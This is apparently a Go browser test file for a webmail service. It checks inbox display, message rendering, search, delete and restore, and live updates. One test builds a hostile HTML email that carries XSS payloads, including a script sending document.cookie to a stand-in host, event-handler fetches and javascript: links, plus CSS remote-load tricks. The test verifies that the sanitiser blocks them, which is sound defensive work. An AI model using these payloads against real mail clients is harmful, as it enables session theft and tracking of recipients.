package webmail_test

import (
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"net/smtp"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/xtramail/xtramail/internal/clocktest"
	"github.com/xtramail/xtramail/internal/config"
	"github.com/xtramail/xtramail/internal/store"
	"github.com/xtramail/xtramail/internal/testserver"
	"github.com/xtramail/xtramail/internal/web/webtest"
)

func TestMain(m *testing.M) { os.Exit(webtest.Main(m)) }

var users = map[string]string{"bob@example.test": "bob-password", "eve@example.test": "eve-password"}

// capture sends raw (LF line ends) to the test server's capture port over
// real SMTP, as the upstream filter would.
func capture(t *testing.T, srv *testserver.Server, rcpt, raw string) {
	t.Helper()
	c, err := smtp.Dial(srv.Capture)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.Mail("sender@example.org"); err != nil {
		t.Fatal(err)
	}
	if err := c.Rcpt(rcpt); err != nil {
		t.Fatal(err)
	}
	w, err := c.Data()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write([]byte(strings.ReplaceAll(raw, "\n", "\r\n"))); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatalf("capture: %v", err)
	}
	c.Quit()
}

func start(t *testing.T) *testserver.Server {
	return testserver.Start(t, testserver.Options{Users: users, Configure: webtest.ServerTLS(t)})
}

const newsletter = `From: Northwind News <news@northwind.example>
To: bob@example.test
Subject: Your December update
Message-ID: <news-1@northwind.example>
Date: Fri, 04 Dec 2026 09:30:00 +0000
Content-Type: multipart/alternative; boundary=alt

--alt
Content-Type: text/plain; charset=utf-8

Hello Bob, here is the December update.
--alt
Content-Type: text/html; charset=utf-8

<table width="100%" bgcolor="#f4f4f7"><tr><td align="center">
<table width="560" style="background-color:#ffffff;border:1px solid #dddddd;padding:16px">
<tr><td><h1 style="color:#1a4d8f;font-family:Georgia,serif">December update</h1>
<p style="font-size:15px;line-height:1.5">Hello Bob, the office moves on <b>14 December</b>. Read the
<a href="https://northwind.example/moving">moving plan</a>.</p>
<ul><li>New desks</li><li>New coffee machine</li></ul></td></tr></table></td></tr></table>
--alt--
`

// TestBrowserInboxAndMessage opens a message captured over SMTP in the
// inbox, and saves screenshots of the inbox and the message at 390 and
// 1280 px, light and dark.
func TestBrowserInboxAndMessage(t *testing.T) {
	srv := start(t)
	capture(t, srv, "bob@example.test", newsletter)
	for i := range 6 {
		capture(t, srv, "bob@example.test", fmt.Sprintf("From: Colleague %d <c%d@example.test>\nTo: bob@example.test\nSubject: Status of task %d\nMessage-ID: <task-%d@example.test>\n\nThe task %d is on track.\n> earlier note\n", i, i, i, i, i))
	}
	capture(t, srv, "bob@example.test", "From: Carol <carol@example.test>\nTo: bob@example.test\nSubject: Re: Status of task 2\nMessage-ID: <task-2-re@example.test>\nIn-Reply-To: <task-2@example.test>\nReferences: <task-2@example.test>\n\nThanks, see https://example.test/tasks/2 for details.\n")
	tab := webtest.NewTab(t, webtest.Laptop)
	tab.SignIn(srv.Web, "bob@example.test", "bob-password")
	tab.Do(chromedp.WaitVisible(chromedp.CSS("#rows .mail-row")))
	// First contentful paint of the inbox, the first page after sign-in
	// (the layout's assets are cached from the sign-in page, the
	// webmail's own are not): a figure for the issue, not a pass mark.
	// Headless Chromium may not report paint entries: the navigation's
	// DOMContentLoaded and load are logged beside it.
	timing := webtest.Run(tab, chromedp.Evaluate[string](`(() => {
		const p = performance.getEntriesByName('first-contentful-paint')[0];
		const n = performance.getEntriesByType('navigation')[0] || {};
		return 'first contentful paint ' + (p ? Math.round(p.startTime) + ' ms' : 'not reported') +
			', DOMContentLoaded ' + Math.round(n.domContentLoadedEventEnd || -1) + ' ms, load ' + Math.round(n.loadEventEnd || -1) + ' ms';
	})()`))
	t.Logf("inbox after sign-in: %s", timing)
	if got := webtest.Run(tab, chromedp.Evaluate[string]("document.title")); !strings.HasPrefix(got, "(8) Inbox") {
		t.Errorf("title %q, want the unread count first", got)
	}
	tab.EachLook(func(int, bool) {
		tab.Navigate(srv.Web + "/")
		tab.Do(chromedp.WaitVisible(chromedp.CSS("#rows .mail-row")))
		tab.Screenshot("inbox")
	})
	tab.Navigate(srv.Web + "/")
	tab.Do(chromedp.Click(chromedp.CSS(`#rows .mail-row:last-child a.list-main`)))
	tab.Do(chromedp.WaitVisible(chromedp.CSS("iframe.msg-frame")))
	if got := tab.Text("#msg-subject"); !strings.Contains(got, "Your December update") {
		t.Fatalf("opened %q", got)
	}
	// The frame shows the sanitised HTML (its document is not reachable
	// from the page: no allow-same-origin; check it loaded from its URL).
	src := webtest.Run(tab, chromedp.Evaluate[string]("document.querySelector('iframe.msg-frame').getAttribute('sandbox')"))
	if src != "allow-popups allow-popups-to-escape-sandbox" {
		t.Errorf("frame sandbox %q", src)
	}
	tab.Do(chromedp.Sleep(500 * time.Millisecond)) // let the frame paint for the screenshot
	tab.EachLook(func(int, bool) {
		tab.Do(chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS("iframe.msg-frame")), chromedp.Sleep(300*time.Millisecond))
		tab.Screenshot("message")
	})
	// A plain-text message in a conversation.
	tab.Navigate(srv.Web + "/search?q=" + "subject%3A%22Re%3A+Status%22")
	tab.Do(chromedp.Click(chromedp.CSS(`#rows .mail-row a.list-main`)), chromedp.WaitVisible(chromedp.CSS(".plain")))
	if got := tab.Text(".msg-conversation summary"); !strings.Contains(got, "2 messages") {
		t.Errorf("conversation: %q", got)
	}
	if n := webtest.Run(tab, chromedp.Evaluate[int](`document.querySelectorAll('.plain a[href="https://example.test/tasks/2"][rel="noopener noreferrer"]').length`)); n != 1 {
		t.Errorf("link in plain text not clickable: %d", n)
	}
	tab.Screenshot("conversation")
	if r := tab.RemoteRequests(srv.Web); len(r) > 0 {
		t.Errorf("requests left the host: %v", r)
	}
}

// hits counts requests to a local HTTPS server that stands for the
// remote hosts of a hostile message.
type hits struct {
	mu sync.Mutex
	by map[string]int
}

func (h *hits) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	h.by[r.URL.Path]++
	h.mu.Unlock()
	w.Header().Set("Content-Type", "image/gif")
	w.Write([]byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"))
}

// remoteHost serves a remote host over TLS with the browser's test
// certificate, counting what is asked of it: the hits and its host:port.
func remoteHost(t *testing.T) (*hits, string) {
	h := &hits{by: map[string]int{}}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	remote := &http.Server{Handler: h, TLSConfig: &tls.Config{Certificates: []tls.Certificate{webtest.Cert(t)}}}
	go remote.ServeTLS(ln, "", "")
	t.Cleanup(func() { remote.Close() })
	return h, ln.Addr().String()
}

func (h *hits) get() map[string]int {
	h.mu.Lock()
	defer h.mu.Unlock()
	out := map[string]int{}
	for k, v := range h.by {
		out[k] = v
	}
	return out
}

// TestBrowserHostileMessage: in a real Chromium, nothing of a hostile
// message runs, nothing is fetched from a remote host until the user
// allows images (then only the images), and the session cookie is out of
// reach.
func TestBrowserHostileMessage(t *testing.T) {
	srv := start(t)
	h, host := remoteHost(t)
	r := "https://" + host
	hostile := `From: Mallory <mallory@evil.example>
To: bob@example.test
Subject: Hostile
Content-Type: text/html

<html><head><base href="` + r + `/base/"><meta http-equiv="refresh" content="0;url=` + r + `/refresh">
<link rel="stylesheet" href="` + r + `/css"><style>body{background:url(` + r + `/style-bg)}</style>
<style>@import url(` + r + `/import.css); @font-face{font-family:x;src:url(` + r + `/font.woff)}
p{behavior:url(` + r + `/behavior.htc);-moz-binding:url(` + r + `/binding.xml#x);width:expression(fetch('` + r + `/expr-style'))}
li{list-style-image:url(` + r + `/list.png);cursor:url(` + r + `/cursor.cur),auto} .q::after{content:url(` + r + `/content.png)}
:root{--u:url(` + r + `/var.png)} .v{background:var(--u)} .brand{color:#1a4d8f}
@supports (display:grid){body{background-image:url(` + r + `/supports-bg)}} @supports (background:url(` + r + `/supports-cond)){p{color:red}}
@keyframes k{from{background:url(` + r + `/keyframe-bg)}to{opacity:.5}} @keyframes "q"{to{background:url(` + r + `/keyframe-q)}} body{animation:k 1s infinite}</style>
<script>fetch("` + r + `/script-ran?c="+document.cookie)</script></head>
<body onload="fetch('` + r + `/onload-ran')">
<p style="background:url(` + r + `/inline-bg);width:expression(fetch('` + r + `/expr'))">styled</p>
<img src="` + r + `/pixel.gif" width="1" height="1" onerror="fetch('` + r + `/onerror-ran')">
<img src="` + r + `/photo.gif" alt="photo">
<img src="x" onerror="fetch('` + r + `/onerror2-ran')">
<a href="javascript:fetch('` + r + `/js-link')" id="jslink">click me</a>
<svg><script>fetch("` + r + `/svg-script")</script><image href="` + r + `/svg-image"/></svg>
<form action="` + r + `/form"><input name="p" value="x"><button id="formbtn">go</button></form>
<table background="` + r + `/table-bg"><tr><td style="background-image:url(` + r + `/td-bg)">cell</td></tr></table>
<iframe src="` + r + `/iframe"></iframe><object data="` + r + `/object"></object>
</body></html>
`
	capture(t, srv, "bob@example.test", hostile)
	tab := webtest.NewTab(t, webtest.Laptop)
	tab.SignIn(srv.Web, "bob@example.test", "bob-password")
	tab.Do(chromedp.Click(chromedp.CSS(`#rows .mail-row a.list-main`)), chromedp.WaitVisible(chromedp.CSS("iframe.msg-frame")))
	// Wait for the frame's document to load, then give anything that
	// would run a moment.
	webtest.Run(tab, chromedp.Poll[bool](`(() => { const f = document.querySelector('iframe.msg-frame'); return !!f && performance.getEntriesByName(f.src).length > 0 })()`,
		chromedp.WithPollingTimeout(webtest.Timeout)))
	tab.Do(chromedp.Sleep(time.Second))
	if got := h.get(); len(got) > 0 {
		t.Errorf("the hostile message reached the remote host before images were allowed: %v", got)
	}
	if rr := tab.RemoteRequests(srv.Web); len(rr) > 0 {
		t.Errorf("the browser sent requests elsewhere: %v", rr)
	}
	// The session cookie is HttpOnly: not even the page itself reads it,
	// and the frame has no same-origin access to the page.
	if c := webtest.Run(tab, chromedp.Evaluate[string]("document.cookie")); strings.Contains(c, "xtramail") {
		t.Errorf("session cookie readable by script: %q", c)
	}
	if loc := tab.Location(); !strings.HasPrefix(loc, srv.Web+"/msg/") {
		t.Errorf("page navigated away to %s", loc)
	}
	// Allowing images fetches the images, and nothing else.
	tab.Do(chromedp.Click(chromedp.CSS(".msg-images a")), chromedp.WaitVisible(chromedp.CSS("iframe.msg-frame")))
	deadline := time.Now().Add(webtest.Timeout)
	for (h.get()["/photo.gif"] == 0 || h.get()["/supports-bg"] == 0) && time.Now().Before(deadline) {
		time.Sleep(100 * time.Millisecond)
	}
	tab.Do(chromedp.Sleep(time.Second))
	got := h.get()
	if got["/photo.gif"] == 0 || got["/pixel.gif"] == 0 {
		t.Errorf("allowed images not loaded: %v", got)
	}
	if got["/supports-bg"] == 0 {
		t.Errorf("the @supports block's background (kept, over the rule before it) not loaded with images allowed: %v", got)
	}
	// The <style> block's background images (of a rule, in @supports,
	// in a keyframe) are images too, and may load now; nothing the
	// stylesheet imports, binds, runs or only tests ever does.
	for path := range got {
		switch path {
		case "/photo.gif", "/pixel.gif", "/style-bg", "/supports-bg", "/keyframe-bg":
		default:
			t.Errorf("with images allowed, %s was fetched", path)
		}
	}
}

// TestBrowserSearchDeleteRestoreLive: search with operators in the box,
// delete a message and restore it from Deleted, and see a message
// captured while the inbox is open appear without a reload.
func TestBrowserSearchDeleteRestoreLive(t *testing.T) {
	// A delete is pending for its undo window before it reaches Deleted;
	// the window ends when the test moves the service's clock.
	const window = 10 * time.Second
	clk := clocktest.New(time.Now().Truncate(time.Millisecond))
	srv := testserver.Start(t, testserver.Options{Users: users, Clock: clk, Configure: func(c *config.Config) {
		webtest.ServerTLS(t)(c)
		c.Webmail.UndoDelete = config.Duration{Duration: window}
	}})
	capture(t, srv, "bob@example.test", "From: Alice <alice@example.org>\nTo: bob@example.test\nSubject: Quarterly numbers\n\nThe quarterly numbers are in.\n")
	capture(t, srv, "bob@example.test", "From: Dave <dave@example.org>\nTo: bob@example.test\nSubject: Lunch\n\nQuarterly lunch at noon.\n")
	tab := webtest.NewTab(t, webtest.Laptop)
	tab.SignIn(srv.Web, "bob@example.test", "bob-password")

	tab.Navigate(srv.Web + "/search")
	tab.Do(chromedp.SendKeys(chromedp.ID("q"), "from:alice quarterly"), chromedp.Submit(chromedp.ID("q")),
		chromedp.WaitVisible(chromedp.CSS("#rows .mail-row")))
	if n := webtest.Run(tab, chromedp.Evaluate[int]("document.querySelectorAll('#rows .mail-row').length")); n != 1 {
		t.Errorf("from:alice quarterly: %d results", n)
	}
	if got := tab.Text("#rows .mail-row .mail-subject"); got != "Quarterly numbers" {
		t.Errorf("result %q", got)
	}

	// Delete Lunch from the inbox, then restore it from Deleted.
	tab.Navigate(srv.Web + "/")
	tab.Do(chromedp.WaitVisible(chromedp.CSS("#rows .mail-row")))
	tab.Do(chromedp.Click(chromedp.CSS(`#rows .mail-row:first-child input[type=checkbox]`)),
		chromedp.Click(chromedp.CSS(`button[name=action][value=delete]`)),
		chromedp.WaitVisible(chromedp.CSS(".undo")))
	if n := webtest.Run(tab, chromedp.Evaluate[int]("document.querySelectorAll('#rows .mail-row').length")); n != 1 {
		t.Errorf("after delete the inbox lists %d", n)
	}
	// The store expunges it when its undo window ends, and not 1 ms
	// before (it waits for that moment); Deleted lists it then.
	due := clk.Now().Add(window)
	waitFor(t, "the store to wait for the window's end", func() bool { return slices.ContainsFunc(clk.Waiting(), due.Equal) })
	clk.Set(due.Add(-time.Millisecond))
	if n := len(srv.Messages(t, "bob@example.test", store.Inbox)); n != 2 {
		t.Fatalf("INBOX holds %d messages 1 ms before the undo window ended, want 2 (one marked, pending)", n)
	}
	clk.Set(due)
	waitFor(t, "the delete to be expunged once its window ended", func() bool { return len(srv.Messages(t, "bob@example.test", store.Inbox)) == 1 })
	deadline := time.Now().Add(webtest.Timeout)
	for {
		tab.Navigate(srv.Web + "/deleted")
		if webtest.Run(tab, chromedp.Evaluate[int]("document.querySelectorAll('#rows .mail-row').length")) > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the deleted message never reached Deleted")
		}
		tab.Do(chromedp.Sleep(200 * time.Millisecond))
	}
	if got := tab.Text("#rows .mail-row .mail-subject"); got != "Lunch" {
		t.Fatalf("Deleted lists %q", got)
	}
	tab.Screenshot("deleted")
	// The Deleted page may still show the delete's own flash: wait for
	// the page the restore leads to.
	tab.Do(chromedp.Click(chromedp.CSS(`#rows .mail-row input[type=checkbox]`)),
		webtest.Loads(chromedp.Click(chromedp.CSS(`.mail-toolbar button[type=submit]`))))
	tab.WaitFor(`(document.querySelector('.flash') || {}).textContent?.includes('Restored 1 message')`)
	tab.Navigate(srv.Web + "/")
	if n := webtest.Run(tab, chromedp.Evaluate[int]("document.querySelectorAll('#rows .mail-row').length")); n != 2 {
		t.Errorf("after restore the inbox lists %d", n)
	}

	// Live: mark the page, capture a message, wait for its row.
	webtest.Run(tab, chromedp.Evaluate[int]("window.__stillHere = 1"))
	// A change made before the stream is open is not sent: wait for it.
	tab.WaitFor(`document.documentElement.dataset.live === 'open'`)
	capture(t, srv, "bob@example.test", "From: Erin <erin@example.org>\nTo: bob@example.test\nSubject: Arrived live\n\nhello\n")
	webtest.Run(tab, chromedp.Poll[bool](`[...document.querySelectorAll('#rows .mail-subject')].some(e => e.textContent === 'Arrived live')`,
		chromedp.WithPollingTimeout(webtest.Timeout)))
	if v := webtest.Run(tab, chromedp.Evaluate[int]("window.__stillHere || 0")); v != 1 {
		t.Error("the page reloaded instead of updating")
	}
	if got := webtest.Run(tab, chromedp.Evaluate[string]("document.title")); !strings.HasPrefix(got, "(3) ") {
		t.Errorf("title after new mail %q", got)
	}
}
